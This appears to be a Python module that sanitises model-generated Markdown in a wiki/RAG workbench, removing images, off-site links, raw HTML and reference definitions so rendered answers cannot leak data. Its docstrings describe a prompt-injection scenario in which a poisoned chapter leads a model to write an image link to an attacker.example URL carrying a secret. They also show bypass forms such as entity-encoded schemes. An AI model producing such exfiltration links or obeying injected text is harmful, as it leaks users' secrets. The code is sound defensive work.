"""Model output (and any wiki text) made safe to render as Markdown: nothing that leaves the wiki.

A model that obeys a poisoned chapter can write ``![x](http://attacker.example/?q=<secret>)``;
rendered by ``st.markdown`` (or any Markdown client of the HTTP / MCP answers) the image is
fetched at once, with no click: an exfiltration channel. Regular expressions cannot see what
a CommonMark parser sees (nested brackets in alt text, entity-encoded schemes, reference
definitions inside a blockquote), so the text is *parsed* with markdown-it (CommonMark, plus
GFM tables and strikethrough), the token tree walked, and Markdown written back from it:

- images are dropped (their alt text kept as text);
- links stay only when their target is wiki-local (a relative chapter path such as
  ``rag/chunking.md#intro`` or ``knowledge_base?node=…``: no scheme, no ``//`` host);
  any other link becomes its label, an autolink its URL as code;
- raw HTML and reference definitions are dropped;
- every text run is escaped, and bare URLs / e-mail addresses are shown as code, so that the
  renderer (Streamlit's is GFM, which links bare URLs) cannot build a link or image from it.

Citations (``[1][2]``, ``[1-3]`` …) are set aside before parsing and put back verbatim, so
a planted ``[2]: //evil`` definition cannot turn them into a link, and they reach
:func:`~workbench.answer.citations.check_citations` as written. The result is parsed once
more and checked; should anything off-site survive the rewrite, the whole text is returned
escaped as plain text instead.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from typing import Any
from urllib.parse import unquote

from markdown_it import MarkdownIt
from markdown_it.tree import SyntaxTreeNode

from workbench.answer.citations import CITATION

_MD = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])

_SCHEME = re.compile(r"^[a-z][a-z0-9+.\-]*:", re.IGNORECASE)
_INVISIBLE = re.compile(r"[\x00-\x20\x7f]+")
# What GFM (and browsers' "linkify") turn into links without any Markdown syntax.
_BARE_URL = re.compile(
    r"(?:\b[a-z][a-z0-9+.\-]*://|\bwww\.|\b(?:mailto|xmpp|javascript|data):)[^\s<>`]*"
    r"|[\w.+\-]+@[\w\-]+(?:\.[\w\-]+)+",
    re.IGNORECASE,
)
# Escaped in text runs: what could open a link, image, HTML tag, entity or code span (the
# safety-critical ones), and emphasis marks, so literal text stays literal. A backslash is
# escaped only where it would escape what follows; elsewhere it is already literal.
_INLINE_SPECIAL = re.compile(r"\\(?=[!-/:-@\[-`{-~]|\Z)|[\[\]<`*~]|&(?=[#A-Za-z0-9])")
# Text that would open a block at a line start: heading, quote, list item, setext underline.
_LINE_START = re.compile(
    r"^([ \t]*)(?:(#{1,6}(?=\s|$)|>|[-+*](?=\s|$)|=+(?=\s*$)|-+(?=\s*$))|\d{1,9}(?=[.)](?:\s|$)))",
    re.MULTILINE,
)
_TEXT_SPECIAL = re.compile(r"([\\`*_{}\[\]()<>#+\-.!|~:$=^&@])")  # everything, for labels
_CITE_SLOT = re.compile(r"\ue000(\d+)\ue001")
_SLOT_CHARS = re.compile(r"[\ue000\ue001]")
_CITATION = re.compile(CITATION, re.IGNORECASE)
_DEFINITION_REST = re.compile(r":[ \t]*\n?[ \t]*\S")  # "[label]:" then a destination
_BLOCK_PREFIX = re.compile(r"[ \t>*+\-\d.)]*")  # quote / list markers before a definition


@dataclass(frozen=True)
class Neutralized:
    text: str
    removed: tuple[str, ...]  # what was taken out, for the trace ("image http://...", ...)


def is_wiki_target(target: str) -> bool:
    """Whether a link target stays inside the wiki: relative, with no scheme and no host.

    Checked on the decoded target with the characters browsers ignore taken out, so neither
    ``&#104;ttp:``, ``%2F%2Fevil`` nor ``/\\evil`` (a host, to a browser) passes.
    """
    t = _INVISIBLE.sub("", unquote(target))
    return bool(t) and not _SCHEME.match(t) and not re.match(r"^[/\\]{2}", t)


def escape_text(text: str) -> str:
    """Backslash-escape everything Markdown (and Streamlit's directives) could read as markup:
    for one-line labels, captions and titles that are text, not Markdown."""
    return _with_urls_as_code(text.replace("\n", " "), lambda s: _TEXT_SPECIAL.sub(r"\\\1", s))


def code_span(text: str) -> str:
    """``text`` as an inline code span, whatever backticks it holds."""
    text = text.replace("\n", " ")
    fence = "`" * (max((len(r) for r in re.findall(r"`+", text)), default=0) + 1)
    pad = " " if text.startswith("`") or text.endswith("`") or not text.strip() else ""
    return f"{fence}{pad}{text}{pad}{fence}"


def _with_urls_as_code(text: str, escape: Callable[[str], str]) -> str:
    """``text`` escaped by ``escape``, its bare URLs and addresses as code (GFM links those)."""
    out: list[str] = []
    pos = 0
    for m in _BARE_URL.finditer(text):
        out.append(escape(text[pos : m.start()]))
        out.append(code_span(m.group(0)))
        pos = m.end()
    out.append(escape(text[pos:]))
    return _join(out)


def _join(pieces: Iterable[str]) -> str:
    """Pieces of inline Markdown joined so that two code spans never touch (their backticks
    would merge into one fence)."""
    out = ""
    for p in pieces:
        out += " " + p if out.endswith("`") and p.startswith("`") else p
    return out


def _escape_run(text: str) -> str:
    """A text run as Markdown that reads back as the same text and nothing else."""
    out = _with_urls_as_code(text, lambda s: _INLINE_SPECIAL.sub(_backslash, s))
    # a citation put back ("[1]") must not open a link ("[1](x)") or a definition ("[1]: x")
    return re.sub(r"(?<=\ue001)([(:])", r"\\\1", out)


def _backslash(m: re.Match[str]) -> str:
    return "\\" + m.group(0)


class _Writer:
    """Markdown written back from a markdown-it syntax tree, keeping only what is safe."""

    def __init__(self) -> None:
        self.removed: list[str] = []

    def blocks(self, nodes: list[SyntaxTreeNode], tight: bool = False) -> str:
        parts = [p for p in (self.block(n, tight) for n in nodes) if p.strip()]
        return ("\n" if tight else "\n\n").join(parts)

    def block(self, node: SyntaxTreeNode, tight: bool) -> str:
        kind = node.type
        if kind == "paragraph":
            return self.lines(self.inline_of(node))
        if kind == "heading":
            level = int(node.tag[1]) if node.tag[1:].isdigit() else 1
            text = self.inline_of(node).replace("\n", " ")
            return "#" * level + " " + text if text.strip() else ""
        if kind == "blockquote":
            inner = self.blocks(node.children)
            if not inner.strip():
                return ""
            return "\n".join(">" + (" " + line if line else "") for line in inner.split("\n"))
        if kind in ("bullet_list", "ordered_list"):
            return self.list_(node)
        if kind in ("code_block", "fence"):
            body = node.content if node.content.endswith("\n") else node.content + "\n"
            fence = "`" * max(3, max((len(r) + 1 for r in re.findall(r"`{3,}", body)), default=3))
            info = re.sub(r"[^\w+\-]", "", node.info.split(" ")[0]) if kind == "fence" else ""
            return f"{fence}{info}\n{body}{fence}"
        if kind == "hr":
            return "---"
        if kind == "table":
            return self.table(node)
        if kind == "html_block":
            self.removed.append(f"html {node.content.strip()[:120]}")
            return ""
        return self.blocks(node.children, tight)

    def list_(self, node: SyntaxTreeNode) -> str:
        start = int(str(node.attrs.get("start", 1)))
        tight = all(
            c.hidden for item in node.children for c in item.children if c.type == "paragraph"
        )
        items = []
        for i, item in enumerate(node.children):
            marker = "-" if node.type == "bullet_list" else f"{start + i}."
            inner = self.blocks(item.children, tight)
            pad = " " * (len(marker) + 1)
            lines = inner.split("\n")
            items.append(
                "\n".join(
                    [f"{marker} {lines[0]}".rstrip()]
                    + [pad + line if line else "" for line in lines[1:]]
                )
            )
        if not any(re.search(r"\S", i.partition(" ")[2]) for i in items):
            return ""  # only empty items left (their definitions dropped)
        return ("\n" if tight else "\n\n").join(items)

    def table(self, node: SyntaxTreeNode) -> str:
        rows: list[list[str]] = []
        aligns: list[str] = []
        for section in node.children:
            for tr in section.children:
                cells = [self.inline_of(c).replace("\n", " ") for c in tr.children]
                if section.type == "thead":
                    aligns = [str(c.attrs.get("style", "")) for c in tr.children]
                rows.append(cells)
        if not rows:
            return ""
        sep = [
            (":" if "left" in a or "center" in a else "")
            + "---"
            + (":" if "right" in a or "center" in a else "")
            for a in aligns or [""] * len(rows[0])
        ]
        lines = [rows[0], sep, *rows[1:]]
        return "\n".join("| " + " | ".join(r) + " |" for r in lines)

    @staticmethod
    def lines(text: str) -> str:
        """Text that could open a block at a line start (``# x``, ``- x``, ``1. x``) escaped."""

        def esc(m: re.Match[str]) -> str:
            if m.group(2):  # "# x", "> x", "- x", "===": escape the marker itself
                return m.group(1) + "\\" + m.group(2)
            return m.group(0) + "\\"  # "1. x": escape the dot

        # the parser trims lines; spaces left by a dropped tag would indent (or break) a line
        text = re.sub(r"^[ \t]+|[ \t]+$", "", text.strip(), flags=re.MULTILINE)
        return _LINE_START.sub(esc, text)

    def inline_of(self, node: SyntaxTreeNode) -> str:
        return "".join(self.inlines(n.children) for n in node.children)

    def inlines(self, nodes: list[SyntaxTreeNode]) -> str:
        """Sibling inline nodes as Markdown. Text, and the text of whatever is dropped, is
        escaped as one run: "h" + a dropped tag + "ttp://x" must not add up to a bare URL."""
        out: list[str] = []
        run = ""
        for node in nodes:
            kind, href = node.type, str(node.attrs.get("href", ""))
            if kind == "text":
                run += node.content
            elif kind == "html_inline":
                self.removed.append(f"html {node.content[:120]}")
            elif kind == "image" or (
                kind == "link" and node.markup != "autolink" and not is_wiki_target(href)
            ):
                self.removed.append(f"{kind} {href or node.attrs.get('src', '')}"[:130])
                run += _plain(node)
                self.inlines(node.children)  # what the label itself held is reported too
            else:
                out += [_escape_run(run), self.inline(node)]
                run = ""
        out.append(_escape_run(run))
        return _join(out)

    def inline(self, node: SyntaxTreeNode) -> str:
        kind = node.type
        if kind == "softbreak":
            return "\n"
        if kind == "hardbreak":
            return "\\\n"
        if kind == "code_inline":
            return code_span(node.content)
        inner = self.inlines(node.children)
        if kind in ("em", "strong", "s"):
            mark = {"em": "*", "strong": "**", "s": "~~"}[kind]
            return f"{mark}{inner}{mark}" if inner.strip() else inner
        if kind == "link":
            href = str(node.attrs.get("href", ""))
            if node.markup == "autolink":
                self.removed.append(f"link {href[:120]}")
                return code_span(_plain(node) or href)
            # the parser percent-encoded the target: no space or "<>" left, only parens
            return (
                f"[{inner}]({href})"
                if "(" not in href and ")" not in href
                else (f"[{inner}](<{href}>)")
            )
        return inner


def _plain(node: SyntaxTreeNode) -> str:
    """The text a node shows (an image's alt text, a link's label), markup left out."""
    if node.type in ("text", "code_inline"):
        return node.content
    if node.type in ("softbreak", "hardbreak"):
        return "\n"
    return "".join(_plain(c) for c in node.children)


def _parse(text: str) -> tuple[SyntaxTreeNode, dict[str, Any]]:
    env: dict[str, Any] = {}
    return SyntaxTreeNode(_MD.parse(text, env)), env


def _leaks(markdown: str) -> bool:
    """Whether ``markdown`` renders an image, raw HTML or a link that leaves the wiki."""
    tree, env = _parse(markdown)
    if env.get("references"):
        return True
    for node in tree.walk():
        if node.type in ("image", "html_inline", "html_block"):
            return True
        if node.type == "link" and not is_wiki_target(str(node.attrs.get("href", ""))):
            return True
        if node.type == "inline":  # text a GFM renderer would link by itself
            texts = "".join(c.content if c.type == "text" else "\n" for c in node.children)
            if _BARE_URL.search(texts):
                return True
    return False


def neutralize(text: str) -> Neutralized:
    """``text`` with images, off-wiki links, raw HTML and reference definitions defused."""
    text = _SLOT_CHARS.sub("", text)
    cites: list[str] = []

    def park(m: re.Match[str]) -> str:
        line = m.string[m.string.rfind("\n", 0, m.start()) + 1 : m.start()]
        if _BLOCK_PREFIX.fullmatch(line) and _DEFINITION_REST.match(m.string, m.end()):
            return m.group(0)  # "[2]: url" is a reference definition: the parser drops it
        cites.append(m.group(0))
        return f"\ue000{len(cites) - 1}\ue001"

    tree, env = _parse(_CITATION.sub(park, text))
    writer = _Writer()
    writer.removed.extend(f"reference {label[:120]}" for label in env.get("references", {}))
    written = writer.blocks(tree.children)
    # A citation put back must not become a link's "[label]" or a definition's "[label]:".
    out = _CITE_SLOT.sub(lambda m: cites[int(m.group(1))], written)
    if _leaks(out):  # not expected; the fail-safe is text that cannot be anything but text
        writer.removed.append("markup (shown as text)")
        out = escape_text(text)
    return Neutralized(out, tuple(writer.removed))


def safe_markdown(text: str) -> str:
    """Shortcut: the neutralized text only (for renderers)."""
    return neutralize(text).text
